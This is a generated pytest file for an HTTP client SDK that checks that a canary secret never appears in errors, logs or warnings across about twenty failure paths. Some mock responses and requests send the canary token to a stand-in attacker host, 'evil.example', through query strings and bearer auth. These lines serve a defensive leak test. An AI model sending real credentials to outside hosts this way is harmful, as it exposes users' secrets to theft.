# Generated from _async/test_secrets_of_the_kit.py by sdkbase.codegen. Do not edit.
# sha256: 60749e97238d9320
"""No way in which pages, streams, files and the like fail shows the client's secret."""

from __future__ import annotations

import json
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
from loguru import logger

from sdkbase import (
    ApiResponse,
    BearerAuth,
    CursorPagination,
    LinkHeaderPagination,
    NextUrlPagination,
    RequestOptions,
    RetryConfig,
    SdkError,
    StatusError,
    SyncHttpClient,
    SyncResource,
)
from tests.faults.canary import CANARY, Notebook, logged, show_client, show_error
from tests.two_colour import SyncVirtualClock

BASE = "https://api.example"
ECHO = {"token": CANARY, "authorization": "Bearer " + CANARY}


class Row(msgspec.Struct):
    id: int


class Refused(StatusError):
    pass


class SyncRows(SyncResource[Row]):
    path = "/rows"


class SyncEchoing(SyncHttpClient):
    error_classes = {"refused": Refused}
    stream_error_event = "error"
    idempotency_key_methods = ("POST",)


def answer(request: httpx.Request) -> httpx.Response:
    """Echo the secret in everything: status text, headers, links, bodies."""
    name = request.url.path.rpartition("/")[2]
    echo = json.dumps(ECHO)
    headers = {
        "x-echo": CANARY,
        "deprecation": "true",
        "link": f'<https://api.example/new?api_key={CANARY}>; rel="successor-version"',
    }
    if name == "cursor":
        return httpx.Response(200, json={"items": [], "next_cursor": CANARY}, headers=headers)
    if name == "elsewhere":
        url = f"https://evil.example/?access_token={CANARY}"
        return httpx.Response(200, json={"items": [{"id": 1}], "next": url}, headers=headers)
    if name == "link":
        headers["link"] = f'<https://evil.example/?token={CANARY}>; rel="next"'
        return httpx.Response(200, json=[{"id": 1}], headers=headers)
    if name == "misfit":
        return httpx.Response(200, json={"items": [ECHO]}, headers=headers)
    if name == "lines":
        return httpx.Response(200, text=echo + "\n", headers=headers)
    if name in ("events", "failing"):
        headers["content-type"] = "text/event-stream"
        event = "event: error\n" if name == "failing" else ""
        return httpx.Response(200, text=event + "data: " + echo + "\n\n", headers=headers)
    if name == "file":
        headers |= {"etag": f'"{CANARY}"', "content-md5": "AAAAAAAAAAAAAAAAAAAAAA=="}
        return httpx.Response(200, text=echo, headers=headers)
    if name == "headers":
        return httpx.Response(200, headers=headers)
    body = {"code": "refused", "detail": "you sent " + CANARY, "errors": [ECHO]}
    return httpx.Response(422, json=body, headers=headers)


class Needed(msgspec.Struct):
    missing: int


def _pages(pagination: Any, name: str, client: SyncEchoing) -> None:
    SyncRows(client)._paginate("/" + name, pagination).collect()


def cursor(client: SyncEchoing, folder: Path) -> None:
    _pages(CursorPagination(cursor="next_cursor"), "cursor", client)


def elsewhere(client: SyncEchoing, folder: Path) -> None:
    _pages(NextUrlPagination(next_url="next", items="items"), "elsewhere", client)


def link(client: SyncEchoing, folder: Path) -> None:
    _pages(LinkHeaderPagination(), "link", client)


def misfit(client: SyncEchoing, folder: Path) -> None:
    _pages(CursorPagination(cursor="next"), "misfit", client)


def refused_page(client: SyncEchoing, folder: Path) -> None:
    _pages(CursorPagination(cursor="next"), "other", client)


def lines(client: SyncEchoing, folder: Path) -> None:
    client.stream_json("GET", "/lines", cast_to=Row).collect()


def events(client: SyncEchoing, folder: Path) -> None:
    client.stream_events("GET", "/events", cast_to=Row).collect()


def failing(client: SyncEchoing, folder: Path) -> None:
    client.stream_events("GET", "/failing", cast_to=Row).collect()


def wrong_type(client: SyncEchoing, folder: Path) -> None:
    client.stream_events("GET", "/lines", cast_to=Row).collect()


def refused_stream(client: SyncEchoing, folder: Path) -> None:
    stream = client.stream_lines(
        "GET",
        "/other",
        params={"api_key": CANARY},
    )
    stream.collect()


def checksum(client: SyncEchoing, folder: Path) -> None:
    client.download("/file", folder / "file", checksum="sha256:" + "0" * 64)


def checksum_of_server(client: SyncEchoing, folder: Path) -> None:
    client.download("/file", folder / "file", checksum="server")


def refused_download(client: SyncEchoing, folder: Path) -> None:
    client.download("/other", folder / "file")


def own_error(client: SyncEchoing, folder: Path) -> None:
    client.post(
        "/other",
        cast_to=ApiResponse[Row],
        json_data={"password": CANARY},
    )


def of_headers(client: SyncEchoing, folder: Path) -> None:
    client.get("/headers", cast_to=Needed)


def server_url(client: SyncEchoing, folder: Path) -> None:
    SyncRows(client)._get(
        url="https://evil.example/?token=" + CANARY,
    )


def wrong_options(client: SyncEchoing, folder: Path) -> None:
    client.get(  # type: ignore[call-overload]  # wrong on purpose
        "/x",
        options={"headers": {"authorization": CANARY}},
    )


def wrong_headers(client: SyncEchoing, folder: Path) -> None:
    RequestOptions(
        headers=[("authorization", CANARY)],  # type: ignore[arg-type]  # wrong on purpose
    )


def wrong_type_of_result(client: SyncEchoing, folder: Path) -> None:
    client.get(  # type: ignore[call-overload]  # wrong on purpose
        "/x",
        cast_to=[CANARY],
    )


def other_credentials(client: SyncEchoing, folder: Path) -> None:
    auth = BearerAuth(
        CANARY,
    )
    options = RequestOptions(auth=auth)
    client.get("https://evil.example/", cast_to=None, options=options)


WAYS: list[Callable[[SyncEchoing, Path], Any]] = [
    cursor,
    elsewhere,
    link,
    misfit,
    refused_page,
    lines,
    events,
    failing,
    wrong_type,
    refused_stream,
    checksum,
    checksum_of_server,
    refused_download,
    own_error,
    of_headers,
    server_url,
    wrong_options,
    wrong_headers,
    wrong_type_of_result,
    other_credentials,
]


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
def test_no_way_to_fail_shows_the_secret(
    way: Callable[[SyncEchoing, Path], Any], tmp_path: Path
) -> None:
    notebook = Notebook()
    with logged(notebook), warnings.catch_warnings(record=True) as told:
        warnings.simplefilter("always")
        with SyncEchoing(
            BASE,
            auth=BearerAuth(CANARY),
            transport=httpx.MockTransport(answer),
            retry_config=RetryConfig(backoff_factor=0),
            clock=SyncVirtualClock(),
        ) as client:
            try:
                way(client, tmp_path)
            except SdkError as error:
                logger.exception("failed")
                show_error(notebook, error)
            else:
                pytest.fail("it did not fail")
            show_client(notebook, client)
    for warning in told:
        notebook.write("warning", warning.message)
    assert notebook.leaks == []
    assert len(notebook.pages) > 5
